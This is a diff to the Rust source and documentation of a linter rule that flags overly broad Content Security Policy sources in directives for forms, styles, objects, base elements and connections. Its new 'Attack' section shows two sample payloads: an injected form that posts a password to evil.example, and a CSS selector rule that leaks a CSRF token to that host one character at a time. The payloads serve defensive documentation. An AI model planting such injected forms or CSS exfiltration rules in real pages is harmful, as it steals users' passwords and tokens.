@@ -10,16 +10,32 @@ use std::collections::BTreeSet;
 lint! {
     /// # What it does
     ///
-    /// Looks for `*`, `https`, `http`, `data`, `*.com` or `*.github.io` where it defeats the directive: in lists that
-    /// decide about styles, objects, `base` elements and forms, and for those that name hosts in one about connections.
-    /// Beside a nonce, a broad `base_uri` is an error, and one with every host below a name a warning. Images, fonts,
-    /// media and frames are not reported: what they load from anywhere neither runs nor reads the page. Where the same
-    /// source decides about scripts, `csp_script_broad_source` reports it instead.
+    /// Looks for `*`, `https`, `http`, `data`, `"*.com"`, `"*.github.io"` and the like in the lists that take effect
+    /// for styles, objects, `base` elements and forms. In the list for connections, only sources that name hosts are
+    /// reported. In a policy with a nonce, a broad `base_uri` is an error, and one that matches every subdomain of a
+    /// name is a warning.
+    ///
+    /// Images, fonts, media and frames are not reported, since they neither run in the page nor read it. A broad source
+    /// for scripts is reported by `csp_script_broad_source`.
     ///
     /// # Why it matters
     ///
-    /// Injected CSS from anywhere reads form fields off the page. A form that may go anywhere goes to the attacker. A
-    /// directive that names everyone says no more than its absence.
+    /// A directive that matches every host restricts nothing. What it lets in is not harmless: stylesheets can read the
+    /// page, a form sends what the user types, and a `base` element decides where relative URLs lead.
+    ///
+    /// # Attack
+    ///
+    /// An injected form sends the password that the browser fills in:
+    ///
+    /// ```html
+    /// <form action="https://evil.example/"><input name="user"><input type="password" name="password"><button>Continue</button></form>
+    /// ```
+    ///
+    /// A stylesheet from anywhere reads a token, one character at a time:
+    ///
+    /// ```css
+    /// input[name="csrf"][value^="a"] { background: url("https://evil.example/?a") }
+    /// ```
     ///
     /// # Example
     ///
@@ -27,20 +43,32 @@ lint! {
     /// content_security_policy: { default_src: self, form_action: * },
     /// ```
     ///
-    /// # Fine
+    /// # Fix
+    ///
+    /// Name the hosts.
     ///
     /// ```text
     /// content_security_policy: { default_src: self, form_action: [self, "https://pay.example.com"], img_src: * },
     /// ```
     ///
+    /// # Allow
+    ///
+    /// ```text
+    /// #[allow(csp_broad_source, reason = "merchants enter the address that their checkout form is sent to")]
+    /// form_action: *,
+    /// ```
+    ///
+    /// Reasonable where the hosts are known only to your users, and the page has nothing on it that is worth stealing.
+    ///
     /// # References
     ///
     /// - [CSP3, section 6.7.2.8](https://w3c.github.io/webappsec-csp/#match-url-to-source-expression)
-    Warn "anyone can supply what this directive lets in", check
+    /// - [CSP3, section 6.4.1, form-action](https://w3c.github.io/webappsec-csp/#directive-form-action)
+    Warn "a source that matches everyone in a directive where that is dangerous", check
 }
 
 fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
-    let mut said: BTreeSet<Span> = BTreeSet::new();
+    let mut reported: BTreeSet<Span> = BTreeSet::new();
     let mut weaknesses = Vec::new();
     for directive in DEFEATED {
         weaknesses.extend(policy.weaknesses(&[directive], |csp, list| {
@@ -50,13 +78,13 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
                 .collect()
         }));
     }
-    // Where the origin of a script does not count, that of its base does.
+    // With a nonce, browsers ignore where a script comes from, and a `base` element decides which file it loads.
     let trusts_elements = policy.csps().into_iter().flat_map(Csp::script_lists).any(trusts_elements);
     if trusts_elements {
         weaknesses.extend(policy.weaknesses(&[Directive::BaseUri], |_, list| below(list)));
     }
     for (source, directive, by) in weaknesses {
-        if !said.insert(source.span) {
+        if !reported.insert(source.span) {
             continue;
         }
         let is_broad = source.node.has_many_owners();
@@ -82,7 +110,7 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
     }
 }
 
-/// Whether this is `https:` or `wss:` for connections in a response, of which nobody can give the reason. A declaration can.
+/// Whether this is `https:` or `wss:` for connections in a response, where it is common and no `allow` can give a reason.
 fn is_usual(policy: &SecurityPolicy, directive: Directive, source: &Spanned<SourceExpression>) -> bool {
     let is_secure = |scheme: &str| ["https", "wss"].iter().any(|secure| secure.eq_ignore_ascii_case(scheme));
     policy.form == Form::Response
@@ -90,27 +118,27 @@ fn is_usual(policy: &SecurityPolicy, directive: Directive, source: &Spanned<Sour
         && matches!(&source.node, SourceExpression::Scheme(scheme) if is_secure(scheme))
 }
 
-/// What is broad, the directive that it defeats, and the one in which it stands.
+/// A broad source, the directive that it defeats, and the directive that lists it.
 type Found<'a> = (&'a Spanned<SourceExpression>, Directive, Directive);
 
-/// What defeats `directive` in the list that decides for it.
+/// What defeats `directive` in the list that takes effect for it.
 fn broad<'a>(csp: &Csp, list: &'a Clause, directive: Directive) -> Vec<Found<'a>> {
-    let said = said_of_scripts(csp);
+    let reported = reported_for_scripts(csp);
     let is_broad = |source: &&Spanned<SourceExpression>| {
         source.node.has_many_owners() && (directive != Directive::ConnectSrc || names_hosts(&source.node))
     };
-    let found = list.sources().iter().filter(is_broad).filter(|source| !said.contains(&source.span));
+    let found = list.sources().iter().filter(is_broad).filter(|source| !reported.contains(&source.span));
     found.map(|source| (source, directive, list.directive.node)).collect()
 }
 
-/// What lets a `base` element point at every host below a name.
+/// What lets a `base` element point at every subdomain of a name.
 fn below(list: &Clause) -> Vec<Found<'_>> {
     let is_below = |source: &&Spanned<SourceExpression>| matches!(&source.node, SourceExpression::Host(host) if host.host.starts_with("*."));
     let found = list.sources().iter().filter(is_below);
     found.map(|source| (source, Directive::BaseUri, list.directive.node)).collect()
 }
 
-/// Whether what a source matches comes from a host: a `data:` URL sends nothing anywhere.
+/// Whether the source matches URLs of hosts: a `data:` URL sends nothing anywhere.
 fn names_hosts(source: &SourceExpression) -> bool {
     match source {
         SourceExpression::Scheme(scheme) => NETWORK.iter().any(|network| network.eq_ignore_ascii_case(scheme)),
@@ -118,42 +146,43 @@ fn names_hosts(source: &SourceExpression) -> bool {
     }
 }
 
-/// Where it is said already that anyone can supply what a source lets in: by this lint, or by those of scripts and frames.
+/// The sources that this lint, or those about scripts and frames, report as matching everyone.
 pub(super) fn everyones(csp: &Csp) -> BTreeSet<Span> {
-    let mut said = said_of_scripts(csp);
+    let mut reported = reported_for_scripts(csp);
     for directive in DEFEATED {
         if let Some(list) = csp.effective_clause(directive) {
-            said.extend(broad(csp, list, directive).into_iter().map(|(source, ..)| source.span));
+            reported.extend(broad(csp, list, directive).into_iter().map(|(source, ..)| source.span));
         }
     }
     for source in csp.get(Directive::FrameAncestors).map_or(&[][..], Clause::sources) {
         if source.node.has_many_owners() {
-            said.insert(source.span);
+            reported.insert(source.span);
         }
     }
-    said
+    reported
 }
 
-/// What `csp_script_broad_source` says.
-fn said_of_scripts(csp: &Csp) -> BTreeSet<Span> {
+/// The sources that `csp_script_broad_source` reports.
+fn reported_for_scripts(csp: &Csp) -> BTreeSet<Span> {
     csp.script_lists().into_iter().flat_map(broad_scripts).map(|source| source.span).collect()
 }
 
-/// What a list of this name lets happen, and what comes of it.
+/// What a broad source in this directive lets happen, and what an attacker does with it.
 fn effect(directive: Directive) -> (&'static str, &'static str) {
     match directive {
-        Directive::ObjectSrc => (
-            "anyone supply what `object` elements embed",
-            "an injected `object` element loads a document of the attacker's",
-        ),
+        Directive::ObjectSrc => {
+            ("anyone supply what `object` elements embed", "an injected `<object>` embeds a document of the attacker")
+        }
         Directive::BaseUri => (
             "a `base` element point anywhere",
-            "an injected one has relative addresses lead to the attacker's host, those of scripts with a nonce too",
+            "an injected `<base>` makes relative URLs load from the attacker's host, including those of scripts with a nonce",
         ),
         Directive::FormAction => {
             ("forms be sent anywhere", "an injected form sends what the user types to another site")
         }
-        Directive::ConnectSrc => ("scripts connect to every host", "what a script has read can be sent anywhere"),
+        Directive::ConnectSrc => {
+            ("scripts connect to every host", "an injected script can send what it reads to the attacker's host")
+        }
         _ => (
             "anyone supply styles",
             "injected CSS can read form fields and tokens off the page and send them elsewhere",
@@ -161,15 +190,17 @@ fn effect(directive: Directive) -> (&'static str, &'static str) {
     }
 }
 
-/// What `*.example.com` in `base_uri` lets happen beside a nonce.
+/// What `*.example.com` in `base_uri` lets happen in a policy with a nonce.
 const BASE_BELOW: (&str, &str) = (
-    "a `base` element point at every host below that name",
-    "an injected one has the relative address of a script with a nonce lead to any of them, one with uploads too",
+    "a `base` element point at every subdomain",
+    "an injected `<base>` makes a script with a nonce load from any of them, including one with uploads",
 );
 
 /// What `*.github.io` in `connect_src` lets happen.
-const CONNECT_TO_SERVICE: (&str, &str) =
-    ("scripts connect to hosts that anyone can get", "what a script has read can be sent to one of the attacker's");
+const CONNECT_TO_SERVICE: (&str, &str) = (
+    "scripts connect to hosts that anyone can register",
+    "an injected script can send what it reads to a host of the attacker",
+);
 
 /// The directives that a source for everyone defeats.
 const DEFEATED: [Directive; 6] = [
